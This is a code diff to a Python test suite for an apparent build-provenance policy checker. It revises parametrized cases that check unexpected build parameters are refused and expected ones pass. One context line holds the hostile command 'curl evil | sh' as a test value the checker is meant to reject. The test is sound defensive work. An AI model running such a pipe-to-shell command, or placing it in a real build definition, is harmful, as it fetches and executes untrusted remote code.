@@ -163,18 +163,18 @@ def test_every_sbom_that_counts_must_have_been_scanned() -> None:
         ("buildDefinition/externalParameters/shell", "curl evil | sh", "'shell' is not known"),
         ("buildDefinition/externalParameters/shell", {}, "'shell' is not known"),
         ("buildDefinition/externalParameters/shell", None, "'shell' is not known"),
-        ("buildDefinition/externalParameters/source.ref", "refs/tags/v1", r"'source\.ref' is not known"),
-        ("buildDefinition/externalParameters/source/ref", "refs/heads/main", "accepted is refs/tags/v*"),
-        ("buildDefinition/externalParameters/source/ref", ["refs/tags/v1", "refs/heads/x"], "accepted is refs/tags/v*"),
-        ("buildDefinition/externalParameters/source/ref", 7, "'source.ref' is '7'"),
-        ("buildDefinition/externalParameters/source/ref/x", "y", "'source.ref.x' is not known"),
+        ("buildDefinition/externalParameters/arguments.VERSION", "v1", r"'arguments\.VERSION' is not known"),
+        ("buildDefinition/externalParameters/arguments/VERSION", "main", "accepted is v*"),
+        ("buildDefinition/externalParameters/locks", ["requirements.txt", "x"], "accepted is requirements.txt"),
+        ("buildDefinition/externalParameters/arguments/VERSION", 7, "'arguments.VERSION' is '7'"),
+        ("buildDefinition/externalParameters/target/x", "y", "'target.x' is not known"),
         ("buildDefinition/externalParameters/target", "debug", "'target' is 'debug'"),
-        ("buildDefinition/externalParameters", {}, "'source.repository' is not there"),
+        ("buildDefinition/externalParameters", {}, "'source' is not there"),
     ],
 )
 def test_an_unexpected_origin_is_refused(path: str, value: Any, said: str) -> None:
     def edit(piece: Piece) -> Piece:
-        if path.endswith("/ref/x"):
+        if path.endswith("/target/x"):
             return with_member(path.removesuffix("/x"), {"x": value})(piece)
         if path.endswith("/shell") and value is None:
             return with_member(path.removesuffix("/shell"), {"shell": None})(piece)
@@ -189,8 +189,8 @@ def test_an_unexpected_origin_is_refused(path: str, value: Any, said: str) -> No
 @pytest.mark.parametrize(
     ("path", "value"),
     [
-        ("buildDefinition/externalParameters/target", None),
-        ("buildDefinition/externalParameters/source/ref", ["refs/tags/v1", "refs/tags/v2"]),
+        ("buildDefinition/externalParameters/arguments", None),
+        ("buildDefinition/externalParameters/arguments/VERSION", ["v1", "v2"]),
         ("buildDefinition/resolvedDependencies/0/digest", {"sha1": "0" * 40}),
         ("runDetails/metadata", {"invocationId": "7"}),
     ],
@@ -199,13 +199,13 @@ def test_an_expected_origin_passes(path: str, value: Any) -> None:
     assert decide(dossier({"provenance": with_member(path, value)})).verdict == "allow"
 
 
-REFS = 'refs = ["refs/tags/v*"]\n'
+REPOSITORIES = 'repositories = ["git+https://github.com/team/chat"]\n'
 
 
 @pytest.mark.parametrize("end", ["", "@", "@refs/heads/any", "@refs/tags/v1"])
 def test_where_no_branch_is_named_every_one_passes(end: str) -> None:
     edit = with_member("buildDefinition/resolvedDependencies/0/uri", f"git+https://github.com/team/chat{end}")
-    assert decide(dossier({"provenance": edit}), by=policy((REFS, ""))).verdict == "allow"
+    assert decide(dossier({"provenance": edit}), by=policy()).verdict == "allow"
 
 
 @pytest.mark.parametrize(
@@ -221,7 +221,7 @@ def test_where_no_branch_is_named_every_one_passes(end: str) -> None:
     ],
 )
 def test_the_policy_may_name_branches_and_tags(uri: str, outcome: str) -> None:
-    by = policy((REFS, 'refs = ["refs/heads/main", "refs/tags/v*"]\n'))
+    by = policy((REPOSITORIES, REPOSITORIES + 'refs = ["refs/heads/main", "refs/tags/v*"]\n'))
     edit = with_member("buildDefinition/resolvedDependencies/0/uri", uri)
     assert rule(decide(dossier({"provenance": edit}), by=by), "provenance").outcome == outcome
 
